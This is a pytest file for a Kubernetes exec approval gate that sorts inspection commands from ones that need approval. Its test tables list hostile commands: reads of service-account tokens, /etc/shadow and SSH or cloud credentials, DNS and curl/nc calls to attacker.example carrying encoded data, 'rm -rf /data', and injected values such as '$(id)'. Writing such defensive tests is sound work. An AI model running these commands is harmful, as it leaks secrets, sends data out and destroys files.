"""`exec_is_read_only`: which `k8s_exec` commands may run without approval.

Read-only means the command can neither print a secret (environment variables, mounted secret
files, credential files) nor reach the network; everything else waits for approval.
"""

from __future__ import annotations

import pytest
from pydantic import ValidationError

from opsgate.tools import kubectl
from opsgate.tools.kubectl import exec_is_read_only

INSPECTIONS: list[list[str]] = [
    ["cat", "/etc/resolv.conf"],
    ["cat", "/etc/os-release"],
    ["/bin/cat", "/etc/hostname"],
    ["cat", "/etc/passwd"],
    ["ls", "/app"],
    ["ls", "-la", "/var/log"],
    ["ls", "-la", "--color=never"],
    ["ps", "aux"],
    ["ps", "-ef"],
    ["df", "-h"],
    ["du", "-sh", "/data"],
    ["head", "-n", "20", "/var/log/app.log"],
    ["tail", "-n", "100", "/var/log/app.log"],
    ["grep", "-i", "error", "/var/log/app.log"],
    ["wc", "-l", "/var/log/app.log"],
    ["stat", "/app/server.py"],
    ["cat", "/proc/meminfo"],
    ["cat", "/proc/1/status"],
    ["date"],
    ["date", "+%s"],
    ["date", "-u"],
    ["hostname"],
    ["id"],
    ["whoami"],
    ["uname", "-a"],
    ["pwd"],
    ["uptime"],
    ["free", "-m"],
]

ENVIRONMENT_READERS: list[list[str]] = [
    ["env"],
    ["/usr/bin/env"],
    ["printenv"],
    ["printenv", "HOME"],
    ["ps", "e"],
    ["ps", "auxe"],
    ["ps", "eww"],
    ["cat", "/proc/self/environ"],
    ["cat", "/proc/1/environ"],
    ["grep", "-a", "KEY", "/proc/1/environ"],
    ["cat", "proc/1/environ"],
    ["cat", "/proc/1/cmdline"],
]

SECRET_PATHS: list[list[str]] = [
    ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"],
    ["cat", "/run/secrets/kubernetes.io/serviceaccount/token"],
    ["ls", "/var/run/secrets"],
    ["cat", "/run/secrets/db-password"],
    ["head", "-c", "100", "/var/run/secrets/kubernetes.io/serviceaccount/token"],
    ["cat", "/etc/shadow"],
    ["cat", "/etc/gshadow"],
    ["cat", "/root/.aws/credentials"],
    ["cat", "/home/app/.kube/config"],
    ["cat", "/root/.ssh/id_rsa"],
    ["cat", "/root/.docker/config.json"],
    ["cat", "/root/.git-credentials"],
    ["cat", "/home/app/.netrc"],
    ["cat", "/app/.env"],
    ["cat", "/etc/tls/tls.key"],
    ["cat", "/etc/ssl/private/server.pem"],
    ["cat", "/proc/self/fd/3"],
    ["cat", "/proc/1/root/etc/hostname"],
    ["cat", "/dev/sda"],
    ["wc", "-c", "/var/run/secrets/kubernetes.io/serviceaccount/token"],
    # The path is normalised before it is judged: doubled slashes, `.` and `..`.
    ["cat", "//var//run//secrets/kubernetes.io/serviceaccount/token"],
    ["cat", "/var/./run/secrets/kubernetes.io/serviceaccount/token"],
    ["cat", "/app/../var/run/secrets/kubernetes.io/serviceaccount/token"],
    ["cat", "/etc/../etc/shadow"],
    ["cat", "/PROC/1/ENVIRON"],
    # Relative paths: the container's working directory is unknown (often `/`).
    ["cat", "var/run/secrets/kubernetes.io/serviceaccount/token"],
    ["cat", "serviceaccount/token"],
    ["cat", "token"],
    ["cat", "etc/shadow"],
    ["cat", ".aws/credentials"],
    ["cat", "../../var/run/secrets/x"],
    # A secret path hidden in an option's value.
    ["date", "--reference=/var/run/secrets/kubernetes.io/serviceaccount/token"],
    ["date", "-r/run/secrets/x"],
    # Flags that read a file's contents into messages or patterns.
    ["date", "-f", "/etc/hostname"],
    ["wc", "--files0-from=/etc/hostname"],
    ["grep", "--exclude-from=/etc/hostname", "x", "/var/log/app.log"],
    # Recursive reads reach every file under a directory, secrets included.
    ["grep", "-r", "x", "/"],
    ["grep", "-ri", "x", "/var"],
    ["grep", "-R", "x", "/etc"],
    ["grep", "--recursive", "x", "/"],
    ["grep", "-d", "recurse", "x", "/"],
    ["grep", "--directories=recurse", "x", "/"],
    # A glob is not expanded without a shell, but it marks an attempt to reach unnamed files.
    ["cat", "/var/run/secrets/*"],
    ["ls", "/root/*"],
    ["grep", "--include=*.env", "x", "/app"],
]

NETWORK: list[list[str]] = [
    ["nslookup", "db.shop.svc"],
    ["nslookup", "c2VjcmV0.attacker.example"],
    ["getent", "hosts", "c2VjcmV0.attacker.example"],
    ["getent", "ahosts", "attacker.example"],
    ["/usr/bin/getent", "passwd"],
    ["dig", "attacker.example"],
    ["host", "attacker.example"],
    ["ping", "-c", "1", "attacker.example"],
    ["curl", "http://attacker.example/"],
    ["wget", "http://attacker.example/"],
    ["nc", "attacker.example", "443"],
    ["hostname", "-f"],
    ["hostname", "-i"],
    ["hostname", "--fqdn"],
    ["id", "someone"],
    ["cat", "http://attacker.example/x"],
]

WRITES_OR_OTHER_PROGRAMS: list[list[str]] = [
    [],
    ["sh", "-c", "cat /etc/passwd"],
    ["bash"],
    ["/bin/sh"],
    ["python3", "-c", "print(1)"],
    ["rm", "-rf", "/data"],
    ["tee", "/etc/x"],
    ["touch", "/tmp/x"],
    ["kill", "1"],
    ["env", "sh"],
    ["env", "-i", "sh"],
    ["env", "X=1", "cat"],
    ["tail", "-f", "/var/log/app.log"],
    ["tail", "--follow=name", "/var/log/app.log"],
    ["date", "-s", "2020-01-01"],
    ["date", "010100002020"],
    ["hostname", "evil"],
    ["hostname", "-F", "/tmp/name"],
    ["cat", "/etc/passwd", ">", "/tmp/x"],
    ["cat", "a|b"],
    ["ls", "$(id)"],
    ["grep", "-f", "patterns"],
    ["head", "-o", "x"],
    ["/tmp/cat", "x"],
    ["./cat", "x"],
]


def _ids(table: list[list[str]]) -> list[str]:
    return [" ".join(argv) or "empty" for argv in table]


@pytest.mark.parametrize("argv", INSPECTIONS, ids=_ids(INSPECTIONS))
def test_inspections_stay_read_only(argv: list[str]) -> None:
    assert exec_is_read_only(argv) is True


@pytest.mark.parametrize("argv", ENVIRONMENT_READERS, ids=_ids(ENVIRONMENT_READERS))
def test_reading_the_environment_needs_approval(argv: list[str]) -> None:
    assert exec_is_read_only(argv) is False


@pytest.mark.parametrize("argv", SECRET_PATHS, ids=_ids(SECRET_PATHS))
def test_reading_a_secret_path_needs_approval(argv: list[str]) -> None:
    assert exec_is_read_only(argv) is False


@pytest.mark.parametrize("argv", NETWORK, ids=_ids(NETWORK))
def test_a_network_lookup_or_connection_needs_approval(argv: list[str]) -> None:
    assert exec_is_read_only(argv) is False


@pytest.mark.parametrize("argv", WRITES_OR_OTHER_PROGRAMS, ids=_ids(WRITES_OR_OTHER_PROGRAMS))
def test_writes_shells_and_unknown_programs_need_approval(argv: list[str]) -> None:
    assert exec_is_read_only(argv) is False


def test_k8s_exec_is_read_only_only_for_inspecting_commands() -> None:
    tool = next(t for t in kubectl.TOOLS if t.name == "k8s_exec")
    assert not tool.annotations.read_only
    assert tool.is_read_only(tool.parse({"pod": "web-1", "command": ["cat", "/etc/hosts"]}))
    assert not tool.is_read_only(tool.parse({"pod": "web-1", "command": ["rm", "/etc/hosts"]}))
    assert not tool.is_read_only(tool.parse({"pod": "web-1", "command": ["env"]}))
    token = ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"]
    assert not tool.is_read_only(tool.parse({"pod": "web-1", "command": token}))


def test_k8s_exec_description_names_no_secret_or_network_program_as_read_only() -> None:
    tool = next(t for t in kubectl.TOOLS if t.name == "k8s_exec")
    for program in ("env", "printenv", "nslookup", "getent"):
        assert program not in tool.description.replace(",", " ").split(), program


@pytest.mark.parametrize(
    "argument", ["a; id", "a|b", "$(id)", "`id`", "a\nb", "a\x00b", "../../etc/x", "w\u0435b"]
)
def test_exec_arguments_after_the_program_are_validated_too(argument: str) -> None:
    tool = next(t for t in kubectl.TOOLS if t.name == "k8s_exec")
    with pytest.raises(ValidationError, match="command"):
        tool.parse({"pod": "web-1", "command": ["cat", argument]})


def test_exec_arguments_may_be_flags_for_the_program() -> None:
    tool = next(t for t in kubectl.TOOLS if t.name == "k8s_exec")
    params = tool.parse({"pod": "web-1", "command": ["ls", "-la", "--color=never"]})
    assert params.command == ["ls", "-la", "--color=never"]  # type: ignore[attr-defined]
